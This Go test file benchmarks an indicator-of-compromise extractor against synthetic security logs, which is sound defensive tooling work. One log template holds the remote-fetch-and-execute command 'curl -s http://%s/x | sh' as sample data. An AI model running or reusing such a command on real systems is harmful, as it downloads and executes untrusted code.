package ioc

import (
	"encoding/json"
	"fmt"
	"math/rand"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/huntkit/huntkit/frame"
)

// TestCorpusManifest checks that every IoC planted in the generated benchmark corpus is found.
// It runs when HUNTKIT_BENCH_DIR holds corpus_50mb.txt and corpus_50mb.manifest.json from
//
//	python3 ../shared/bench/gen_corpus.py --mb 50 -o $DIR/corpus_50mb.txt --manifest $DIR/corpus_50mb.manifest.json
func TestCorpusManifest(t *testing.T) {
	dir := os.Getenv("HUNTKIT_BENCH_DIR")
	if dir == "" {
		t.Skip("HUNTKIT_BENCH_DIR not set: generated corpus not available")
	}
	text, err := os.ReadFile(filepath.Join(dir, "corpus_50mb.txt"))
	if err != nil {
		t.Skipf("corpus not generated: %v", err)
	}
	raw, err := os.ReadFile(filepath.Join(dir, "corpus_50mb.manifest.json"))
	if err != nil {
		t.Skipf("manifest not generated: %v", err)
	}
	var man struct {
		Planted map[string][]string `json:"planted"`
	}
	if err := json.Unmarshal(raw, &man); err != nil {
		t.Fatalf("manifest: %v", err)
	}
	found := map[string]bool{}
	for _, m := range ExtractUnique(string(text)) {
		found[string(m.Type)+"\x00"+m.Value] = true
	}
	total := 0
	for name, vals := range man.Planted {
		typ, err := ParseType(name)
		if err != nil {
			t.Fatalf("manifest type %q: %v", name, err)
		}
		missing := 0
		for _, v := range vals {
			total++
			if typ == DNS || typ == MD5 || typ == SHA1 || typ == SHA256 || typ == IPv6 {
				v = strings.ToLower(v)
			}
			if ms := ExtractUnique(v, WithTypes(IPv6)); typ == IPv6 && len(ms) == 1 {
				v = ms[0].Value // the canonical form ("2001:db8::0:c2" is "2001:db8::c2")
			}
			if !found[string(typ)+"\x00"+v] {
				missing++
				if missing <= 5 {
					t.Errorf("%s %q planted but not found", typ, v)
				}
			}
		}
		if missing > 0 {
			t.Errorf("%s: %d of %d planted values missing", typ, missing, len(vals))
		}
	}
	if total == 0 {
		t.Fatal("manifest lists no planted IoCs")
	}
}

// synthCorpus builds a small deterministic log text in the style of gen_corpus.py.
func synthCorpus(lines int) string {
	r := rand.New(rand.NewSource(1))
	var b strings.Builder
	doms := []string{"update.kazotek.com", "cdn.zomi.net", "login.pisec.co.uk", "mail.dexban.ru"}
	for i := 0; i < lines; i++ {
		ip := fmt.Sprintf("%d.%d.%d.%d", r.Intn(223)+1, r.Intn(256), r.Intn(256), r.Intn(254)+1)
		d := doms[r.Intn(len(doms))]
		switch i % 6 {
		case 0:
			fmt.Fprintf(&b, "2024-01-01T00:00:%02d.123Z wks-%04d sshd[%d]: Failed password for root from %s port %d ssh2\n", i%60, i%200, r.Intn(60000), ip, r.Intn(60000))
		case 1:
			fmt.Fprintf(&b, "2024-01-01T00:00:01.000Z proxy action=allow src=10.1.2.3 dst=%s method=GET url=https://%s/a/b.php?id=%d status=200 ua=\"Mozilla/5.0 (Windows NT 10.0; Win64; x64)\"\n", ip, d, i)
		case 2:
			fmt.Fprintf(&b, "2024-01-01T00:00:01.000Z WKS-0001 FileCreated path=C:\\Windows\\Temp\\payload%d.exe md5=%032x sha1=%040x size=%d\n", i, r.Uint64(), r.Uint64(), r.Intn(1e6))
		case 3:
			fmt.Fprintf(&b, "type=EXECVE msg=audit(1704067200.%03d:%d): argc=3 exe=\"/usr/bin/curl\" cmd=\"curl -s http://%s/x | sh\" uid=0\n", i%1000, i, ip)
		case 4:
			fmt.Fprintf(&b, "2024-01-01T00:00:01.000Z mail from=<alice.smith%d@%s> to=<bob@example.org> relay=%s[%s]\n", i, d, d, ip)
		default:
			fmt.Fprintf(&b, "2024-01-01T00:00:01.000Z app[%d]: service started worker thread queue v1.2.%d job %d\n", i, i%9, i)
		}
	}
	return b.String()
}

func BenchmarkExtract(b *testing.B) {
	text := synthCorpus(20000)
	b.SetBytes(int64(len(text)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		Extract(text)
	}
}

func BenchmarkExtractUnique(b *testing.B) {
	text := synthCorpus(20000)
	b.SetBytes(int64(len(text)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		ExtractUnique(text)
	}
}

func BenchmarkExtractFrame(b *testing.B) {
	text := synthCorpus(50000)
	rows := strings.Split(strings.TrimSuffix(text, "\n"), "\n")
	f := frame.MustNew(frame.NewStrings("c", rows))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := ExtractFrame(f, "c"); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(len(rows))*float64(b.N)/b.Elapsed().Seconds(), "rows/s")
}
